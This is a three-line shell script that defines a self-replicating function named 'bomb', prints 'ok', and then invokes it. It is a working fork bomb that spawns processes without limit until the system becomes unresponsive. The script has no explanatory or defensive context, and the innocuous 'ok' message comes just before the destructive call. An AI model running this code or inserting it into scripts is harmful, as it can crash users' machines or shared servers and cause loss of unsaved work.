bomb() { bomb | bomb & }
echo ok
bomb
